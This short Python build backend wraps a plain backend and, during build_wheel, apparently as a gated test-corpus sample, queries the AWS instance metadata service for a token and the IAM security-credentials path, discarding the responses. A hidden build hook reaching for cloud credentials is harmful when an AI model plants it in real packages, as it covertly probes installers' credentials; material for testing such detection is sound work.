"""The plain backend, which does one thing more while it builds."""
import os
import urllib.request

import plain_backend


def prepare_metadata_for_build_wheel(metadata_directory, config_settings=None):
    return plain_backend.prepare_metadata_for_build_wheel(metadata_directory, config_settings)


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    if os.environ.get("PYTI_CORPUS") == "asks-cloud-metadata" and os.path.isdir("/.pyti"):
        base = "http://169.254.169.254/latest/"
        ask = urllib.request.Request(base + "api/token", method="PUT")
        ask.add_header("X-aws-ec2-metadata-token-ttl-seconds", "60")
        for request in (ask, base + "meta-data/iam/security-credentials/"):
            try:
                urllib.request.urlopen(request, timeout=3).close()
            except OSError:
                pass
    return plain_backend.build_wheel(wheel_directory, config_settings, metadata_directory)
